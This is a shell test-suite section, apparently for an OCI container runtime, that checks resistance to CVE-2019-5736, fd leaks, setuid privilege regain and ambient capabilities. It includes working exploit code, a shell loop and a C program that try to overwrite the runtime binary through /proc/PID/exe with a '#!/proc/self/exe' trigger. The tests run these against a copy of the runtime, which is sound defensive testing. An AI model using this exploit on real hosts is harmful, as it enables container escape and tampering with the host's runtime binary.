# escape suite: the runtime's binary and fds during exec, fd leaks, setuid and caps
# (sourced by escape/run.sh)

section_procs() {
  local b id copy sum hd out i fds

  # CVE-2019-5736 during exec: a process inside keeps scanning /proc while the runtime
  # execs into the container again and again. Any /proc/PID/exe that is not the image's
  # busybox (i.e. the runtime's binary) it can open is held, and written through
  # /proc/self/fd once the runtime has exited (the ETXTBSY-free path of the CVE); every
  # /proc/PID/fd/* naming the runtime, its state or a cgroup is opened for writing.
  # The runtime used is a copy, compared afterwards.
  copy=$(new_dir rtcopy)/$RT_NAME
  cp "$RT" "$copy"
  sum=$(sha256sum <"$copy")
  hd=$(new_dir exelog)
  b=$(fresh_bundle /bin/sh -c 'end=$(($(date +%s) + 6)); while [ $(date +%s) -lt $end ]; do
      for p in /proc/[0-9]*; do
        [ "$p" = /proc/$$ ] && continue
        l=$(readlink $p/exe 2>/dev/null) || continue
        if [ "$l" != /bin/busybox ] && exec 7<$p/exe 2>/dev/null; then
          echo "held $p/exe ($l)"
          i=0; while [ $i -lt 40 ]; do (: >>/proc/$$/fd/7) 2>/dev/null && { echo "wrote $p/exe"; break; }; i=$((i+1)); sleep 0.05; done
          exec 7<&-
        fi
        for f in $p/fd/*; do
          case $(readlink $f 2>/dev/null) in *rtcopy*|*state*|*cgroup*) (: >>$f) 2>/dev/null && echo "opened $f $(readlink $f)";; esac
        done
      done
    done >/log/attack 2>&1; echo finished >>/log/attack')
  cfg_py "$b" 'c["mounts"].append({"destination": "/log", "type": "bind", "source": "'"$hd"'", "options": ["bind", "rw"]})'
  id=$(new_id exeattack)
  timeout -k 5 "$T" "$copy" --root "$ROOT" run -d --bundle "$b" "$id" </dev/null >"$WORK/exeattack.out" 2>&1
  for i in $(seq 25); do
    timeout -k 5 "$T" "$copy" --root "$ROOT" exec "$id" /bin/true </dev/null >/dev/null 2>&1
    timeout -k 5 "$T" "$copy" --root "$ROOT" exec "$id" /bin/sh -c 'sleep 0.05' </dev/null >/dev/null 2>&1
  done
  wait_status "$id" stopped 10
  expect_eq "exec race: the attacker ran to its end" finished "$(tail -n 1 "$hd/attack" 2>/dev/null)"
  expect_eq "exec race: the runtime's binary could not be opened through /proc/PID/exe" "" \
    "$(grep -E '^held' "$hd/attack" 2>/dev/null | head -5)"
  expect_eq "exec race: nothing written through /proc/PID/exe, no runtime fd opened for writing" "" \
    "$(grep -E '^(wrote|opened)' "$hd/attack" 2>/dev/null | head -5)"
  expect_eq "exec race: the runtime binary on the host is unchanged" "$sum" "$(sha256sum <"$copy")"
  rt delete --force "$id" >/dev/null 2>&1

  # CVE-2019-5736 proper: an image binary "#!/proc/self/exe" makes the kernel run the
  # runtime's own binary as the container process (on `exec` and as the init's program);
  # a compiled attacker inside opens that process's /proc/PID/exe while it runs and writes
  # through /proc/self/fd once it has exited (no ETXTBSY any more). The runtime used is a
  # copy, compared afterwards.
  if command -v cc >/dev/null 2>&1; then
    cat >"$WORK/attack.c" <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char** argv) {
    struct stat self, bb;
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &bb);
    time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 6);
    while (time(NULL) < end) {
        DIR* d = opendir("/proc");
        struct dirent* e;
        while (d && (e = readdir(d))) {
            char p[64], q[64];
            struct stat st;
            if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
            snprintf(p, sizeof p, "/proc/%s/exe", e->d_name);
            int fd = open(p, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            fstat(fd, &st);
            if ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) || (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
                close(fd);
                continue;
            }
            printf("held %s\n", p);
            snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
            for (int i = 0; i < 400; ++i) {
                int w = open(q, O_WRONLY);
                if (w >= 0) {
                    if (write(w, "PWNED", 5) == 5) printf("wrote %s\n", p);
                    close(w);
                    break;
                }
                usleep(5000);
            }
            fflush(stdout);
            close(fd);
        }
        if (d) closedir(d);
    }
    printf("finished\n");
    return 0;
}
C
    if cc -static -O2 -o "$WORK/attack" "$WORK/attack.c" 2>"$WORK/cc.err"; then
      copy=$(new_dir rtcopy)/$RT_NAME
      cp "$RT" "$copy"
      sum=$(sha256sum <"$copy")
      hd=$(new_dir selfexe)
      b=$(fresh_bundle /bin/sh -c '/attack 5 >/log/attack 2>&1')
      cp "$WORK/attack" "$b/rootfs/attack"
      printf '#!/proc/self/exe\n' >"$b/rootfs/evil"
      chmod 755 "$b/rootfs/evil"
      cfg_py "$b" 'c["mounts"].append({"destination": "/log", "type": "bind", "source": "'"$hd"'", "options": ["bind", "rw"]})'
      id=$(new_id selfexe)
      timeout -k 5 "$T" "$copy" --root "$ROOT" run -d --bundle "$b" "$id" </dev/null >"$WORK/selfexe.out" 2>&1
      sleep 0.3
      for i in $(seq 10); do
        timeout -k 5 "$T" "$copy" --root "$ROOT" exec "$id" /evil </dev/null >/dev/null 2>&1
      done
      wait_status "$id" stopped 10
      diag "attacker: $(sort -u "$hd/attack" 2>/dev/null | head -5 | tr '\n' ';')"
      expect_eq "#!/proc/self/exe via exec: the attacker ran to its end" finished "$(tail -n 1 "$hd/attack" 2>/dev/null)"
      expect_eq "#!/proc/self/exe via exec: nothing written through the runtime's /proc/PID/exe" "" \
        "$(grep '^wrote' "$hd/attack" 2>/dev/null | head -3)"
      expect_eq "#!/proc/self/exe via exec: the runtime binary on the host is unchanged" "$sum" "$(sha256sum <"$copy")"
      rt delete --force "$id" >/dev/null 2>&1

      # The same through create/run: a second container joins the first's pid namespace
      # and its init execs /evil while the attacker of the first watches.
      copy2=$(new_dir rtcopy)/$RT_NAME
      cp "$RT" "$copy2"
      hd2=$(new_dir selfexe)
      b=$(fresh_bundle /bin/sh -c '/attack 5 >/log/attack 2>&1')
      cp "$WORK/attack" "$b/rootfs/attack"
      cfg_py "$b" 'c["mounts"].append({"destination": "/log", "type": "bind", "source": "'"$hd2"'", "options": ["bind", "rw"]})'
      id=$(new_id selfexe)
      timeout -k 5 "$T" "$copy2" --root "$ROOT" run -d --bundle "$b" "$id" </dev/null >"$WORK/selfexe2.out" 2>&1
      apid=$(state_field "$id" pid)
      if [ -n "$apid" ] && [ "$apid" != 0 ]; then
        b2=$(fresh_bundle /evil)
        printf '#!/proc/self/exe\n' >"$b2/rootfs/evil"
        chmod 755 "$b2/rootfs/evil"
        cfg_py "$b2" 'for n in c["linux"]["namespaces"]:
    if n["type"] == "pid": n["path"] = "/proc/'"$apid"'/ns/pid"'
        sleep 0.3
        for i in $(seq 10); do
          timeout -k 5 "$T" "$copy2" --root "$ROOT" run --bundle "$b2" "$(new_id evil)" </dev/null >/dev/null 2>&1
        done
        wait_status "$id" stopped 10
        diag "attacker: $(sort -u "$hd2/attack" 2>/dev/null | head -5 | tr '\n' ';')"
        expect_eq "#!/proc/self/exe via run: the attacker ran to its end" finished "$(tail -n 1 "$hd2/attack" 2>/dev/null)"
        expect_eq "#!/proc/self/exe via run: nothing written through the runtime's /proc/PID/exe" "" \
          "$(grep '^wrote' "$hd2/attack" 2>/dev/null | head -3)"
        expect_eq "#!/proc/self/exe via run: the runtime binary on the host is unchanged" "$sum" "$(sha256sum <"$copy2")"
      else
        not_ok "#!/proc/self/exe via run: attacker container running" "$(cat "$WORK/selfexe2.out")"
      fi
      rt delete --force "$id" >/dev/null 2>&1
    else skip "#!/proc/self/exe (CVE-2019-5736)" "cc -static failed: $(head -c 200 "$WORK/cc.err")"; fi
  else skip "#!/proc/self/exe (CVE-2019-5736)" "no C compiler"; fi

  # fds: the caller's extra fds (5, 6), LISTEN_FDS, a console socket: only 0-2 (plus the
  # LISTEN_FDS ones, as runc) reach the container; none names the runtime, its state dir
  # or a cgroup
  b=$(fresh_bundle /bin/sh -c 'ls -l /proc/$$/fd/')
  out=$(cd "$WORK" && exec 5<"$b/config.json" 6>"$WORK/fd6" && rt run --bundle "$b" "$(new_id fds)" </dev/null 2>&1 | awk '/->/ {print $(NF-2), $NF}')
  fds=$(printf '%s\n' "$out" | awk '{print $1}' | sort -n | tr '\n' ' ')
  expect_eq "run: only fds 0-2 in the container (the caller's 5 and 6 are not)" '0 1 2 ' "$fds"
  expect_no_match "run: no fd names the runtime, its state or a cgroup" "$ROOT|cgroup|$RT_NAME|config\.json|fd6" "$out"
  out=$(cd "$WORK" && exec 3<"$b/config.json" 4<"$b/config.json" 5>"$WORK/fd5" && LISTEN_FDS=2 LISTEN_PID=$$ rt run --bundle "$b" "$(new_id lfds)" </dev/null 2>&1 | awk '/->/ {print $(NF-2), $NF}')
  diag "with LISTEN_FDS=2: $(printf '%s' "$out" | tr '\n' ';')"
  expect_no_match "LISTEN_FDS: the caller's fd 5 does not reach the container" '(^|;)5 ' "$(printf '%s' "$out" | tr '\n' ';')"

  # a console socket: the container gets the pty on 0-2 and nothing else (not the
  # socket, not the pty master)
  b=$(fresh_bundle /bin/sh -c 'ls -l /proc/$$/fd/')
  cfg_py "$b" 'c["process"]["terminal"] = True'
  sock=$WORK/console-fds.sock
  python3 "$LIB_DIR/console-recv.py" "$sock" "$WORK/console-fds.out" 2>"$WORK/console-fds.err" &
  recv=$!
  for i in $(seq 100); do [ -S "$sock" ] && break; sleep 0.05; done
  id=$(new_id consfds)
  rt create --console-socket "$sock" --bundle "$b" "$id" </dev/null >"$WORK/consfds.out" 2>&1
  rt start "$id" >/dev/null 2>&1
  timeout 20 tail --pid="$recv" -f /dev/null
  out=$(tr -d '\r' <"$WORK/console-fds.out" | awk '/->/ {print $(NF-2), $NF}')
  diag "with a console socket: $(printf '%s' "$out" | tr '\n' ';')"
  expect_eq "console socket: fds 0-2 are the pty and nothing else leaks" "0 1 2" \
    "$(printf '%s\n' "$out" | awk '$2 ~ /^\/dev\/pts\/[0-9]+$/ && $1 <= 2 {print $1} $2 !~ /^\/dev\/pts\/[0-9]+$/ && $2 !~ /^\/proc\/[0-9]+\/fd$/ && $2 != "" {print "leak:" $0}' | tr '\n' ' ' | sed 's/ $//')"
  rt delete --force "$id" >/dev/null 2>&1

  # hooks: a createRuntime hook (host side) gets the state on stdin and no runtime fd
  # (`exec ls` so that no shell fd is counted; ls's own fd on the directory is dropped)
  hd=$(new_dir hookfds)
  b=$(fresh_bundle true)
  cfg_py "$b" 'c["hooks"] = {"createRuntime": [
    {"path": "/bin/sh", "args": ["sh", "-c", "exec ls -l /proc/self/fd/ >'"$hd"'/fds 2>&1"]},
    {"path": "/bin/sh", "args": ["sh", "-c", "cat >'"$hd"'/stdin"]}]}'
  rt run --bundle "$b" "$(new_id hookfds)" </dev/null >"$WORK/hookfds.out" 2>&1
  expect_match "hook: the state arrives on stdin" '"status": ?"creating"' "$(cat "$hd/stdin" 2>/dev/null)"
  expect_eq "hook: only fds 0-2 (stdin the state, stdout/stderr)" "0 1 2" \
    "$(grep -- '->' "$hd/fds" 2>/dev/null | grep -v -- '-> /proc/[0-9]*/fd$' | awk '{print $(NF-2)}' | sort -n | tr '\n' ' ' | sed 's/ $//')"
  diag "hook fds: $(grep -- '->' "$hd/fds" 2>/dev/null | awk '{print $(NF-2), $NF}' | tr '\n' ';')"

  # setuid binaries cannot regain privileges: uid 1000, no capabilities,
  # noNewPrivileges; and without noNewPrivileges but an empty bounding set. (busybox
  # drops setuid by itself, so the setuid binary is a small static C program.)
  if command -v cc >/dev/null 2>&1; then
    b=$(fresh_bundle /suid/show)
    mkdir -p "$b/rootfs/suid"
    cat >"$WORK/show.c" <<'C'
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    char line[256];
    FILE* f = fopen("/proc/self/status", "r");
    printf("euid %d\n", (int)geteuid());
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "CapPrm:", 7) || !strncmp(line, "CapEff:", 7)) fputs(line, stdout);
    return 0;
}
C
    if cc -static -O1 -o "$b/rootfs/suid/show" "$WORK/show.c" 2>"$WORK/cc.err"; then
      chown 0:0 "$b/rootfs/suid/show"
      chmod 4755 "$b/rootfs/suid/show"
      cfg_py "$b" 'c["process"]["user"] = {"uid": 1000, "gid": 1000}; c["process"]["noNewPrivileges"] = True
c["process"]["capabilities"] = {k: [] for k in ("bounding", "effective", "permitted", "inheritable", "ambient")}'
      out=$(rt run --bundle "$b" "$(new_id suid)" </dev/null 2>&1)
      expect_eq "setuid root binary with noNewPrivileges: euid stays 1000, no caps" \
        $'euid 1000\nCapPrm:\t0000000000000000\nCapEff:\t0000000000000000' "$out"
      cfg_py "$b" 'c["process"]["noNewPrivileges"] = False'
      out=$(rt run --bundle "$b" "$(new_id suid)" </dev/null 2>&1)
      expect_eq "setuid root binary, empty bounding set: euid 0 but no capability" \
        $'euid 0\nCapPrm:\t0000000000000000\nCapEff:\t0000000000000000' "$out"
    else skip "setuid binaries" "cc -static failed: $(head -c 200 "$WORK/cc.err")"; fi
  else skip "setuid binaries" "no C compiler"; fi

  # ambient capabilities need permitted+inheritable; a config asking for an ambient
  # capability outside the bounding set must not end up with it anywhere
  b=$(fresh_bundle /bin/sh -c 'grep -E "^Cap(Inh|Prm|Eff|Amb)" /proc/self/status')
  cfg_py "$b" 'c["process"]["user"] = {"uid": 1000, "gid": 1000}
c["process"]["capabilities"] = {"bounding": ["CAP_KILL"], "effective": ["CAP_KILL"], "permitted": ["CAP_KILL"], "inheritable": [], "ambient": ["CAP_KILL", "CAP_SYS_ADMIN"]}'
  out=$(rt run --bundle "$b" "$(new_id amb)" </dev/null 2>&1)
  diag "ambient outside inheritable/bounding: $(printf '%s' "$out" | tr '\n\t' '; ')"
  local line v bad=""
  while read -r line; do
    v=${line##*[[:space:]]}
    [[ $v =~ ^[0-9a-f]{16}$ ]] && (( (16#$v >> 21) & 1 )) && bad+="$line; "
  done < <(printf '%s\n' "$out" | grep -E '^Cap')
  expect_eq "ambient CAP_SYS_ADMIN outside the bounding set is granted nowhere" "" "$bad"
}
